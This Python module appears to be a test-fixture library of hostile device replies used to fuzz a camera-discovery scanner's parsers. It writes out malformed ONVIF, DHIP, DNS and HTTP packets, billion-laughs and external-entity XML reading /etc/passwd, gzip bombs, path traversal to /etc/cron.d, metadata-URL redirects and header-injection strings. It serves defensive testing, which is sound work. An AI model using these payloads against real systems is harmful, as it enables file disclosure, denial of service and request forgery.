"""Replies that mean harm: name -> bytes. `STRUCTURES` break how a protocol is built; the rest put a hostile text where a device says who it is."""

from __future__ import annotations

import gzip
import json
import struct
from collections.abc import Callable, Mapping

from hostile.misbehaving import CANARY, FORMULA, HTML, LONG

ENVELOPE = (
    '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" '
    'xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Body><d:ProbeMatches>%s</d:ProbeMatches></s:Body></s:Envelope>'
)
MATCH = (
    "<d:ProbeMatch><a:EndpointReference><a:Address>%s</a:Address></a:EndpointReference><d:Types>dn:NetworkVideoTransmitter</d:Types>"
    "<d:Scopes>%s</d:Scopes><d:XAddrs>%s</d:XAddrs></d:ProbeMatch>"
)


def match(uuid: str = "urn:uuid:1", scopes: str = "", links: str = "") -> bytes:
    return (ENVELOPE % (MATCH % (uuid, scopes, links))).encode("utf-8", "surrogatepass")


def dhip(body: bytes, length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    return struct.pack("<I4sIIIIII", 32, b"DHIP", 0, 0, size & 0xFFFFFFFF, 0, size & 0xFFFFFFFF, 0) + body


def laughs() -> bytes:
    entities = '<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    return f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&j;</x>'.encode()


NAME = "onvif://www.onvif.org/name/"
STRUCTURES = {
    "nothing": b"",
    "one byte": b"\0",
    "NULs": bytes(65_000),
    "high bytes": b"\xff" * 65_000,
    "billion laughs": laughs(),
    "quadratic entity": b'<!DOCTYPE x [<!ENTITY a "' + b"A" * 30_000 + b'">]><x>' + b"&a;" * 10_000 + b"</x>",
    "external entity": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "external DTD": b'<!DOCTYPE x SYSTEM "http://127.66.66.66/x.dtd"><x/>',
    "UTF-16 with a DTD": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode("utf-16"),
    "deep XML": b"<a>" * 21_000,
    "deep and closed": b"<a>" * 9_000 + b"</a>" * 9_000,
    "40,000 attributes": b"<a " + b" ".join(b"a%d='1'" % n for n in range(6_000)) + b"/>",
    "many elements": b"<a>" + b"<b/>" * 15_000 + b"</a>",
    "a comment without end": b"<a><!--" + b"-" * 60_000,
    "an encoding that does not exist": b'<?xml version="1.0" encoding="no-such"?><a/>',
    "GBK that says UTF-8": match(scopes=NAME + "X").replace(b"X", "\u6444\u50cf\u673a".encode("gbk")),
    "trailing NULs": match() + bytes(512),
    "bare ProbeMatch": (MATCH % ("urn:uuid:1", NAME + "My Cam", "http://10.0.0.5/")).encode(),
    "HTML in a name": match(scopes=NAME + HTML.replace("<", "&lt;")),
    "a formula in a name": match(scopes=NAME + FORMULA.replace('"', "&quot;")),
    "a name of 10 kB": match(scopes=NAME + LONG),
    "10,000 scopes": match(scopes=" ".join(["onvif://x/a"] * 5_000)),
    "10,000 links": match(links=" ".join(f"http://10.0.{n >> 8 & 255}.{n & 255}/" for n in range(2_500))),
    "1,000 matches": (ENVELOPE % (MATCH % ("urn:uuid:1", "", "") * 250)).encode(),
    "links that are none": match(links="http://[::1 http://10.0.0.5:99999/ file:///etc/passwd http://:0/ //x \\\\evil\\share"),
    "bidi, escapes and a bell": match(scopes=NAME + "%E2%80%AE%1B%5B2J%07%00"),
    "deep JSON": b"[" * 60_000,
    "deep JSON objects": b'{"a":' * 12_000,
    "a JSON number without end": b'{"a":1' + b"0" * 60_000 + b"}",
    "JSON with half a character": b'{"params":{"deviceInfo":{"MachineName":"\\ud800"}}}',
    "DHIP with deep JSON": dhip(b"[" * 60_000),
    "DHIP with a length of 4 GB": dhip(b"{}", 0xFFFFFFFF),
    "DHIP with a negative length": dhip(b"{}", -1),
    "DHIP without fields": dhip(b'{"method":"client.notifyDevInfo","params":{"deviceInfo":null}}'),
    "DHIP whose fields are lists": dhip(json.dumps({"mac": [], "params": {"deviceInfo": {"SerialNo": {}, "HttpPort": []}}}).encode()),
    "SADP that is malformed": b"<ProbeMatch><MAC>3c-ef-8c<MAC><HttpPort>flase</ProbeMatch>",
    "SADP with numbers that are none": b"<ProbeMatch><HttpPort>9999999999</HttpPort><DigitalChannelNum>-1e9</DigitalChannelNum></ProbeMatch>",
    "a name that points to itself": bytes.fromhex("000084000000000100000000c00c000c0001000000ff0002c00c"),
    "a chain of pointers": bytes(12) + b"".join(struct.pack(">H", 0xC000 | (14 + 2 * n)) for n in range(2_000)),
    "DNS that counts 65,535 records": bytes.fromhex("00008400ffffffffffffffff") + bytes(300),
    "TVT of zeros": b"MHED" + bytes(236),
    "TVT that is short": b"MHED\x08\x00\x02\x00",
    "Vivotek whose lengths lie": b"\x01\x4a\x5d\x8f\x1c" + b"\x01\xff" * 400,
    "Ubiquiti whose lengths lie": b"\x01\x00\xff\xff" + b"\x02\xff\xff" * 400,
    "Panasonic whose lengths lie": bytes(53) + b"\x00\x20\xff\xff" * 400,
    "Xiongmai with a length of 4 GB": struct.pack("<BBHIIHHI", 255, 1, 0, 0, 0, 0, 1531, 0xFFFFFFFF) + b"{}\0\0",
    "Dahua's older protocol, lengths lie": b"\xb3\xff\xff" + b"\xff" * 200,
    "Bosch that is short": bytes.fromhex("9939a427"),
    "Sony without an end": b"\x02" + b"\xff".join([b"MODEL:" + b"A" * 100] * 500),
    "a status that is none": b"HTTP/1.1 99999999999999999999 OK\r\n\r\n",
    "10,000 headers": b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 9_000 + b"\r\n",
    "a header of 60 kB": b"HTTP/1.1 401 No\r\nWWW-Authenticate: Digest realm=\"" + b"R" * 60_000 + b'"\r\n\r\n',
    "a title without end": b"HTTP/1.1 200 OK\r\n\r\n<title>" + b"<title" * 9_000,
    "gzip that is none": b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n" + b"\x1f\x8b" * 100,
    "chunks that lie": b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\nx\r\n",
    "a certificate whose length is endless": bytes.fromhex("3084ffffffff") + bytes(2_000),
    "a certificate inside a certificate": bytes.fromhex("3080") * 20_000,
}  # fmt: skip


def page(title: str, head: str = "") -> bytes:
    """A web page with this title."""
    body = f"<html><head><title>{title}</title></head></html>".encode("utf-8", "surrogatepass")
    return f"HTTP/1.1 200 OK\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode("utf-8", "surrogatepass") + body


def soap(name: str) -> bytes:
    """What an ONVIF device says of itself."""
    return (
        '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:t="http://www.onvif.org/ver10/device/wsdl"><s:Body>'
        f"<t:GetDeviceInformationResponse><t:Manufacturer>{name}</t:Manufacturer><t:Model>{name}</t:Model><t:FirmwareVersion>{name}"
        f"</t:FirmwareVersion><t:SerialNumber>{name}</t:SerialNumber></t:GetDeviceInformationResponse></s:Body></s:Envelope>"
    ).encode("utf-8", "surrogatepass")


def mdns(name: str) -> bytes:
    """An answer that names a camera so, and says it again as a text."""
    label = name.encode("utf-8", "surrogatepass")[:63]
    owner = bytes((len(label),)) + label + b"\x05_axis\x04_tcp\x05local\0"
    text = name.encode("utf-8", "surrogatepass")[:250]
    text = bytes((len(text),)) + text
    return bytes.fromhex("000084000000000100000000") + owner + struct.pack(">HHIH", 16, 1, 120, len(text)) + text


def ssdp(name: str) -> bytes:
    """An answer that leads to its description there."""
    return (
        f"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nLOCATION: {name}\r\nSERVER: {name}\r\nST: upnp:rootdevice\r\n"
        f"USN: uuid:{name}::upnp:rootdevice\r\n\r\n"
    ).encode("utf-8", "surrogatepass")


def upnp(name: str) -> bytes:
    """A description with this in each of its lines."""
    return (
        '<root xmlns="urn:schemas-upnp-org:device-1-0"><device><deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType>'
        f"<friendlyName>{name}</friendlyName><manufacturer>{name}</manufacturer><modelName>{name}</modelName><UDN>uuid:{name}</UDN>"
        f"<presentationURL>{name}</presentationURL></device></root>"
    ).encode("utf-8", "surrogatepass")


def sadp(name: str) -> bytes:
    """An answer of SADP that says so."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><ProbeMatch><Uuid>1</Uuid><MAC>44-19-b6-00-00-01</MAC><DeviceDescription>{name}'
        f"</DeviceDescription><DeviceSN>{name}</DeviceSN><IPv4Address>{name}</IPv4Address><SoftwareVersion>{name}</SoftwareVersion></ProbeMatch>"
    ).encode("utf-8", "surrogatepass")


def _dhip(name: str) -> bytes:
    fields = {
        "DeviceType": name,
        "MachineName": name,
        "SerialNo": name,
        "Vendor": name,
        "IPv4Address": {"IPAddress": name},
        "HttpPort": name,
    }
    return dhip(json.dumps({"mac": name, "method": "client.notifyDevInfo", "params": {"deviceInfo": fields}}).encode())


def rtsp(name: str) -> bytes:
    """A refusal of a stream by this realm."""
    return f'RTSP/1.0 401 No\r\nCSeq: 1\r\nServer: {name}\r\nWWW-Authenticate: Digest realm="{name}", nonce="{name}"\r\n\r\n'.encode(
        "utf-8", "surrogatepass"
    )


CARRIERS: Mapping[str, Callable[[str], bytes]] = {
    "a page's title": page,
    "a page's headers": lambda text: page(
        "x", f'Server: {text}\r\nWWW-Authenticate: Basic realm="{text}"\r\nSet-Cookie: {text}\r\n'
    ),
    "a scope": lambda text: match(scopes=NAME + text),
    "ONVIF's own words": soap,
    "SADP": sadp,
    "DHIP": _dhip,
    "mDNS": mdns,
    "SSDP": ssdp,
    "a UPnP description": upnp,
    "a stream's refusal": rtsp,
}
"""Where a device says who it is."""
TEXTS: Mapping[str, str] = {
    "markup": HTML.replace("<", "&lt;"),
    "markup as it is": HTML,
    "a formula": FORMULA,
    "10 kB": LONG,
    "bidi and escapes": "\u202egnp.exe\u2066\u200b\x1b[2J\x07\x00end",
    "a way out of the folder": "../../../../etc/cron.d/x",
    "a file": "file:///etc/passwd",
    "a Windows share": "\\\\" + CANARY + "\\share\\x",
    "the canary": f"http://{CANARY}:8080/x",
    "the cloud's own address": "http://169.254.169.254/latest/meta-data/",
    "a script": "javascript:alert(1)",
    "half a character": "\ud800",
    "line ends": "a\r\nX-Injected: 1\r\n\r\n<title>b",
}
"""What it says."""


def _answer(*head: str, body: bytes = b"") -> bytes:
    return "\r\n".join(head).encode() + b"\r\n\r\n" + body


EXCHANGES = {
    "a page that is somewhere else": _answer("HTTP/1.1 301 Moved", f"Location: http://{CANARY}:8080/"),
    "a page that is a file": _answer("HTTP/1.1 302 Found", "Location: file:///etc/passwd"),
    "a page that is a share": _answer("HTTP/1.1 302 Found", f"Location: \\\\{CANARY}\\share"),
    "a page that repeats the question elsewhere": _answer("HTTP/1.1 307 Again", f"Location: http://{CANARY}/onvif/device_service"),
    "a page on a port that is none": _answer("HTTP/1.1 302 Found", "Location: http://127.0.0.1:99999/"),
    "a hundred interim answers": _answer("HTTP/1.1 100 Continue") * 100,
    "interim answers and no answer": _answer("HTTP/1.1 100 Continue"),
    "a login by NTLM": _answer("HTTP/1.1 401 No", "WWW-Authenticate: NTLM TlRMTVNTUAACAAAA"),
    "a login by Negotiate": _answer("HTTP/1.1 401 No", "WWW-Authenticate: Negotiate"),
    "a login in clear text": _answer("HTTP/1.1 401 No", 'WWW-Authenticate: Basic realm="x"'),
    "a login without qop": _answer("HTTP/1.1 401 No", 'WWW-Authenticate: Digest realm="x", nonce="y"'),
    "a login of a kind nobody knows": _answer("HTTP/1.1 401 No", 'WWW-Authenticate: Digest realm="x", nonce="y", qop="z", algorithm=ROT13'),
    "a thousand challenges": _answer("HTTP/1.1 401 No", *['WWW-Authenticate: Digest realm="x", nonce="y"'] * 1_000),
    "a proxy's challenge": _answer("HTTP/1.1 407 No", 'Proxy-Authenticate: Basic realm="x"'),
    "10 MB in a small gzip": _answer("HTTP/1.1 200 OK", "Content-Encoding: gzip", body=gzip.compress(bytes(10 << 20), 9, mtime=0)),
    "gzip in gzip": _answer("HTTP/1.1 200 OK", "Content-Encoding: gzip, gzip", body=gzip.compress(gzip.compress(bytes(1 << 20), mtime=0), mtime=0)),
    "an encoding nobody knows": _answer("HTTP/1.1 200 OK", "Content-Encoding: br", body=b"\x8b\xff" * 400),
    "a length of -1": _answer("HTTP/1.1 200 OK", "Content-Length: -1", body=b"x"),
    "a length of 10 to the 30": _answer("HTTP/1.1 200 OK", "Content-Length: 1" + "0" * 30, body=b"x"),
    "two lengths": _answer("HTTP/1.1 200 OK", "Content-Length: 5", "Content-Length: 500", body=b"xxxxx"),
    "chunks of -1": _answer("HTTP/1.1 200 OK", "Transfer-Encoding: chunked", body=b"-1\r\nx\r\n"),
    "9,000 chunks of one byte": _answer("HTTP/1.1 200 OK", "Transfer-Encoding: chunked", body=b"1\r\nx\r\n" * 9_000),
    "an upgrade": _answer("HTTP/1.1 101 Switching", "Upgrade: websocket", "Connection: Upgrade"),
    "HTTP/0.9": b"<title>old</title>",
    "HTTP/9.9": _answer("HTTP/9.9 200 OK", body=b"<title>new</title>"),
    "headers without names": b"HTTP/1.1 200 OK\r\n: x\r\n:\r\n =\r\n\r\n",
    "a header over many lines": b"HTTP/1.1 401 No\r\nWWW-Authenticate: Digest\r\n" + b" realm=\"x\",\r\n" * 3_000 + b"\r\n",
    "line ends of another kind": b"HTTP/1.1 200 OK\n\rServer: x\r\r\n\n<title>x</title>",
    "a farewell for all": match().replace(b"ProbeMatches", b"Bye").replace(b"ProbeMatch", b"x"),
    "mDNS that says goodbye": mdns("Hall camera").replace(struct.pack(">HHI", 16, 1, 120), struct.pack(">HHI", 16, 1, 0)),
}  # fmt: skip
"""How a conversation goes wrong."""

PAYLOADS: Mapping[str, bytes] = {
    **STRUCTURES,
    **EXCHANGES,
    **{f"{text} in {place}": make(words) for text, words in TEXTS.items() for place, make in CARRIERS.items()},
}
"""All of them."""
